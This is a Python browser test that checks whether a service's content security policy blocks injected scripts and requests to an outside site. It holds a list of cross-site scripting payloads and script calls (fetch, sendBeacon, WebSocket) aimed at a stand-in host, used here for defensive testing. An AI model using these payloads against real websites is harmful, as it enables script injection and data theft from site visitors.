"""What a browser runs and asks of what was put into the page: ``python -m tests.figures.page``."""

import argparse
import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from typing import Final
from uuid import uuid4

from playwright.async_api import Browser, Route, async_playwright
from playwright.async_api import Error as BrowserError

from embedded.ports import LOOPBACK
from tests.figures.stage import a_folder, a_service, tell
from tests.fixtures.chromium import Missing, find_chromium

_RUN: Final = "window.ran = 1"
_WRITTEN: Final = (
    *(f"<script>{_RUN}</script>", f'<script type="module">{_RUN}</script>', f'<script nonce="x">{_RUN}</script>'),
    *(f'<img src="/nowhere" onerror="{_RUN}">', f'<svg onload="{_RUN}"></svg>', f'<input autofocus onfocus="{_RUN}">'),
    *(f'<details open ontoggle="{_RUN}">x</details>', f'<video><source src="/nowhere" onerror="{_RUN}"></video>'),
    *(f'<a id="press" href="javascript:{_RUN}">x</a>', '<iframe src="javascript:parent.ran = 1"></iframe>'),
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    *(f'<script src="data:text/javascript,{_RUN}"></script>', '<script src="{there}/a.js"></script>'),
    *('<script type="module" src="{there}/a.js"></script>', '<base href="{there}/"><script src="a.js"></script>'),
    *('<link rel="stylesheet" href="{there}/a.css">', "<style>body {{ background: url({there}/a) }}</style>"),
    *('<p style="background: url({there}/a)">x</p>', '<img src="{there}/a.png">', '<video poster="{there}/a"></video>'),
    *('<video autoplay src="{there}/a.mp4"></video>', '<audio autoplay src="{there}/a.mp3"></audio>'),
    *('<iframe src="{there}/a"></iframe>', '<object data="{there}/a"></object>', '<embed src="{there}/a">'),
    '<form action="{there}/a"><button id="press">x</button></form>',
)
"""Into the document, as by a hole in what makes it; ``{there}`` is another website."""
_DONE: Final = (
    *(f'eval("{_RUN}")', f'new Function("{_RUN}")()', f'setTimeout("{_RUN}", 0)', 'import("{there}/a.js")'),
    *('fetch("{there}/a")', 'new WebSocket("{there}/a".replace("http", "ws"))', 'new EventSource("{there}/a")'),
    *('navigator.sendBeacon("{there}/a", "x")', 'new Image().src = "{there}/a"'),
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"{there}/a\")'])))",
)
"""By a script of the page's own that was led astray."""
_SETTLED_MILLISECONDS: Final = 300.0
_LOOKS: Final = 5


class Elsewhere:
    """Another website: notes what it is asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.document = ""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            self.asked.append((await reader.readuntil(b"\r\n")).decode().split(" ")[1])
            kind = "text/html" if self.asked[-1] == "/framing" else "text/javascript"
            body = self.document if kind == "text/html" else _RUN
            head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\nConnection: close"
            writer.write(f"{head}\r\n\r\n{body}".encode())
            await writer.drain()
        writer.close()


@asynccontextmanager
async def elsewhere() -> AsyncIterator[tuple[Elsewhere, str]]:
    """It, and its address."""
    site = Elsewhere()
    server = await asyncio.start_server(site.serve, LOOPBACK, 0)
    try:
        yield site, f"http://{LOOPBACK}:{server.sockets[0].getsockname()[1]}"
    finally:
        server.close()


async def comes_to_something(
    browser: Browser, address: str, site: Elsewhere, *, written: str = "", done: str = "", policy: bool = True
) -> bool:
    """Whether something ran, or the other website was asked.

    Args:
        browser: Of the visitor.
        address: Of a document of ours.
        site: The other website.
        written: Put into the document.
        done: Done by a script of it.
        policy: Whether our policy goes with the document.
    """

    async def put_in(route: Route) -> None:
        answer = await route.fetch()
        headers = {name: value for name, value in answer.headers.items() if policy or "security" not in name}
        await route.fulfill(status=answer.status, headers=headers, body=f"{await answer.text()}{written}")

    site.asked.clear()
    page = await browser.new_page()
    try:
        await page.route(address, put_in)
        await page.goto(address, wait_until="domcontentloaded")
        if 'id="press"' in written:
            await page.evaluate("document.getElementById('press').click()")
        if done:
            await page.evaluate(f"setTimeout(() => {{ try {{ {done} }} catch (refused) {{ }} }}, 0); 0")
        for _ in range(_LOOKS):
            await page.wait_for_timeout(_SETTLED_MILLISECONDS)
            with suppress(BrowserError):  # it went to the other website, which was asked
                if await page.evaluate("window.ran ?? 0"):
                    return True
            if site.asked:
                return True
        return False
    finally:
        await page.close()


async def tell_blocked(browser: Browser, documents: tuple[str, ...], site: Elsewhere, there: str) -> None:
    """Everything in every document, and once without the policy: there it has to come to something."""
    tries = [{"written": text.format(there=there)} for text in _WRITTEN]
    tries += [{"done": text.replace("{there}", there)} for text in _DONE]
    came = [
        (address, one)
        for address in documents
        for one in tries
        if await comes_to_something(browser, address, site, **one)  # type: ignore[arg-type]  # of texts alone
    ]
    assert came == []
    without = [await comes_to_something(browser, documents[0], site, **one, policy=False) for one in tries]
    tell(
        f"{len(tries)} ways to run something else or to ask another website, in each of {len(documents)} documents: "
        f"{len(came)} of {len(tries) * len(documents)} came to anything; without the policy {sum(without)} of "
        f"{len(tries)} did"
    )
    assert sum(without) > len(tries) // 3, "what is blocked would do something"


async def tell_framed(browser: Browser, api: str, site: Elsewhere, there: str) -> None:
    """Frames of another website: which of our addresses are shown in them."""
    video = f"/videos/{uuid4()}"
    paths = ("/", video, f"{video}/embed", "/healthz", "/api/v1/videos", "/nowhere", "/docs")
    shown = []
    for path in paths:
        site.document = f'<!doctype html><iframe src="{api}{path}"></iframe>'
        page = await browser.new_page()
        await page.goto(f"{there}/framing")
        await page.wait_for_timeout(_SETTLED_MILLISECONDS)
        shown += [path for frame in page.frames[1:] if frame.url.startswith(api)]
        await page.close()
    assert shown == [f"{video}/embed"], shown
    tell(f"framed by another website: of {len(paths)} addresses {len(shown)} was shown, the player's")


async def measure() -> None:
    """Start a stack and a browser, and tell."""
    program = await find_chromium()
    if isinstance(program, Missing):
        tell(f"what a browser runs: not tried, {program.reason}")
        return
    with a_folder() as folder:
        async with a_service(folder) as service, elsewhere() as (site, there), async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
            api = service.run.api
            video = f"{api}/videos/{uuid4()}"
            await tell_blocked(browser, (video, f"{video}/embed"), site, there)
            await tell_framed(browser, api, site, there)
            await browser.close()


def main() -> None:
    """Print what was measured."""
    argparse.ArgumentParser(prog="tests.figures.page", description=__doc__).parse_args()
    asyncio.run(measure())


if __name__ == "__main__":
    main()
